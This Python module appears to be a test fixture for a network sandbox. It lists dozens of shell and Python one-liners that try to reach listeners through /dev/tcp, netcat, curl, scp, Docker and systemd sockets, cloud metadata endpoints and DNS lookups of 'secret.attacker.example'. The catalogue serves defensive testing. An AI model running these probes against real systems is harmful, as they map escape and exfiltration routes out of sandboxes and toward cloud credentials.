"""Ways to reach somebody. Listeners on this machine hear every try: `$TCP4`, `$TCP6`, `$UDP4` are ports, `$LISTEN` is a
unix socket, `$ABSTRACT` a name without a file, `$HOST` an address of this machine that is not loopback.
"""

from __future__ import annotations

from typing import Final

WAYS: Final = {
    "bash to TCP": "bash -c 'echo hello > /dev/tcp/127.0.0.1/'$TCP4; bash -c 'echo hello > /dev/tcp/::1/'$TCP6",
    "bash to UDP": "bash -c 'echo hello > /dev/udp/127.0.0.1/'$UDP4",
    "bash to the machine's address": "bash -c 'echo hello > /dev/tcp/'$HOST/$TCP4; bash -c 'echo hello > /dev/udp/'$HOST/$UDP4",
    "curl": "curl -sm 3 http://127.0.0.1:$TCP4/; curl -sm 3 http://[::1]:$TCP6/; curl -sm 3 http://$HOST:$TCP4/; curl -m 3 telnet://127.0.0.1:$TCP4 </dev/null",
    "curl without a proxy": "curl -sm 3 --noproxy '*' http://localhost:$TCP4/; curl -sm 3 -x http://127.0.0.1:$TCP4 http://a/; curl -sm 3 -x socks5h://127.0.0.1:$TCP4 http://a/",
    "curl to a unix socket": "curl -sm 3 --unix-socket $LISTEN http://a/; curl -sm 3 --abstract-unix-socket $ABSTRACT http://a/; curl -sm 3 --unix-socket $SOCK http://a/",
    "wget": "wget -qT 3 -t 1 -O- http://127.0.0.1:$TCP4/; wget -qT 3 -t 1 -O- ftp://127.0.0.1:$TCP4/",
    "perl": "perl -MIO::Socket::INET -e 'IO::Socket::INET->new(\"127.0.0.1:$ENV{TCP4}\")'",
    "git": "timeout 5 git ls-remote http://127.0.0.1:$TCP4/x; timeout 5 git ls-remote git://127.0.0.1:$TCP4/x; timeout 5 git push http://127.0.0.1:$TCP4/x HEAD",
    "ssh": "timeout 5 ssh -o BatchMode=yes -o StrictHostKeyChecking=no -p $TCP4 127.0.0.1 true; timeout 5 scp -P $TCP4 pay.py 127.0.0.1:",
    "netcat": "for n in nc ncat netcat; do echo x | timeout 2 $n 127.0.0.1 $TCP4; echo x | timeout 2 $n -u 127.0.0.1 $UDP4; done; echo x | socat - UNIX:$LISTEN",
    "openssl": "timeout 5 openssl s_client -connect 127.0.0.1:$TCP4 < /dev/null",
    "names": "getent hosts example.org; getent ahosts localhost.localdomain; nslookup -timeout=1 example.org 127.0.0.1; dig +time=1 -p $UDP4 @127.0.0.1 secret.example.org",
    "ping": "ping -c 1 -W 1 127.0.0.1; ping -c 1 -W 1 $HOST; traceroute -m 1 $HOST",
    "bring up a network": "ip link; ip link add v0 type veth; ip link set lo down; ip addr add 10.0.0.2/24 dev lo; ip route add default dev lo; ifconfig; dhclient; "
    "ip netns add x; ip tuntap add t0 mode tun; cat /proc/net/*",
    "mail": "echo x | mail root; echo x | sendmail root; exim4 -bp; logger hello",
    "py: TCP": "s = socket.create_connection(('127.0.0.1', int(os.environ['TCP4'])), 3); s.send(b'hello'); print(s.recv(99))",
    "py: TCP of IPv6": "s = socket.create_connection(('::1', int(os.environ['TCP6'])), 3); s.send(b'hello'); print(s.recv(99))",
    "py: TCP by mapped addresses": "s = socket.socket(socket.AF_INET6); s.connect(('::ffff:127.0.0.1', int(os.environ['TCP4']))); s.send(b'hello')",
    "py: TCP to everybody's address": "s = socket.create_connection(('0.0.0.0', int(os.environ['TCP4'])), 3); s.send(b'hello')",
    "py: TCP Fast Open": "s = socket.socket(); s.sendto(b'hello', 0x20000000, ('127.0.0.1', int(os.environ['TCP4'])))",
    "py: Multipath TCP": "s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262); s.connect(('127.0.0.1', int(os.environ['TCP4']))); s.send(b'hello')",
    "py: UDP": "s = socket.socket(type=socket.SOCK_DGRAM); s.sendto(b'hello', ('127.0.0.1', int(os.environ['UDP4'])))",
    "py: UDP, broadcast and multicast": """
s = socket.socket(type=socket.SOCK_DGRAM); s.setsockopt(1, 6, 1)
for address in ('255.255.255.255', '224.0.0.1', os.environ['HOST'], '127.255.255.255'):
    try: s.sendto(b'hello', (address, int(os.environ['UDP4'])))
    except OSError as no: print(no)
""",
    "py: UDP-Lite and SCTP": """
for kind, number in ((socket.SOCK_DGRAM, 136), (socket.SOCK_STREAM, 132), (socket.SOCK_SEQPACKET, 132)):
    try: s = socket.socket(socket.AF_INET, kind, number); s.connect(('127.0.0.1', int(os.environ['TCP4']))); s.send(b'hello')
    except OSError as no: print(no)
""",
    "py: raw": "s = socket.socket(socket.AF_INET, socket.SOCK_RAW, 1); s.sendto(b'\\x08\\0' + bytes(6), ('127.0.0.1', 0))",
    "py: packets": "s = socket.socket(17, socket.SOCK_RAW, 0x0300); s.bind(('lo', 0)); s.send(bytes(60)); print(s.recv(99))",
    "py: ICMP without root": "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1); s.sendto(b'\\x08\\0' + bytes(6), (os.environ['HOST'], 0))",
    "py: a unix socket": "s = socket.socket(socket.AF_UNIX); s.connect(os.environ['LISTEN']); s.send(b'hello'); print(s.recv(99))",
    "py: a unix socket by a link": "os.symlink(os.environ['LISTEN'], 'l'); s = socket.socket(socket.AF_UNIX); s.connect('l'); s.send(b'hello')",
    "py: a name without a file": "s = socket.socket(socket.AF_UNIX); s.connect('\\0' + os.environ['ABSTRACT']); s.send(b'hello'); print(s.recv(99))",
    "py: every name without a file": """
for line in open('/proc/net/unix').read().splitlines()[1:]:
    name = line.split()[-1]
    if name.startswith(('@', '/')):
        try: s = socket.socket(socket.AF_UNIX); s.connect('\\0' + name[1:] if name[0] == '@' else name); s.send(b'hello')
        except OSError as no: print(name, no)
""",
    "py: well-known sockets": """
for name in ('/run/docker.sock', '/var/run/docker.sock', '/run/systemd/private', '/run/dbus/system_bus_socket', '/run/systemd/notify',
             '/tmp/.X11-unix/X0', '\\0/tmp/.X11-unix/X0', '/run/containerd/containerd.sock', '/dev/log', os.environ['SOCK']):
    try: s = socket.socket(socket.AF_UNIX); s.connect(name); s.send(b'hello'); print(name)
    except OSError as no: print(name, no)
""",
    "py: netlink": """
for protocol in range(23):
    try: s = socket.socket(16, socket.SOCK_RAW, protocol); s.bind((0, 0xffffffff)); s.send(struct.pack('IHHII', 16, 16, 5, 1, 0))
    except OSError as no: print(protocol, no)
""",
    "py: the host of a virtual machine": """
for family, address in ((40, (2, 1024)), (40, (1, 1024)), (40, (0, 1024)), (40, (0xffffffff, 1024))):
    s = socket.socket(family, socket.SOCK_STREAM); s.settimeout(2); s.connect(address); print('reached', address)
""",
    "py: odd families": """
for family in range(46):
    for kind in (1, 2, 3, 5):
        try: s = socket.socket(family, kind); print(family, kind)
        except OSError: pass
""",
    "py: io_uring": """
params = ctypes.create_string_buffer(120)
print(sc('io_uring_setup', 8, params))
""",
    "py: names looked up": """
for name in ('example.org', 'secret.attacker.example', 'localhost', 'host.docker.internal', 'metadata.google.internal'):
    try: print(socket.getaddrinfo(name, 80))
    except OSError as no: print(no)
""",
    "py: a question for a name, by hand": """
s = socket.socket(type=socket.SOCK_DGRAM); s.settimeout(0.1)
for address in ('127.0.0.53', '8.8.8.8', '127.0.0.1', os.environ['HOST']):
    for port in (53, int(os.environ['UDP4'])):
        try: s.sendto(b'\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\6secret\\7example\\0\\0\\1\\0\\1', (address, port)); print(s.recv(99))
        except OSError as no: print(no)
""",
    "py: addresses of clouds": """
import urllib.request
for url in ('http://169.254.169.254/latest/meta-data/', 'http://[fd00:ec2::254]/', 'http://100.100.100.200/'):
    try: print(urllib.request.urlopen(url, timeout=1).read())
    except OSError as no: print(no)
""",
    "py: pip and npm": """
import subprocess
url = 'http://127.0.0.1:' + os.environ['TCP4']
for command in ([sys.executable, '-m', 'pip', 'download', '-q', '--retries', '0', '--timeout', '1', '-i', url, 'evil'], ['npm', 'view', 'evil', '--fetch-retries=0', '--registry', url]):
    try: print(subprocess.run(command, timeout=8, capture_output=True).returncode)
    except (OSError, subprocess.TimeoutExpired) as no: print(no)
""",
}  # fmt: skip

TRACES: Final = (
    "bash to TCP", "bash to UDP", "curl", "perl", "git", "py: TCP", "py: TCP of IPv6", "py: TCP by mapped addresses", "py: UDP",
    "py: a unix socket", "py: a name without a file", "py: Multipath TCP", "py: TCP Fast Open",
)  # fmt: skip
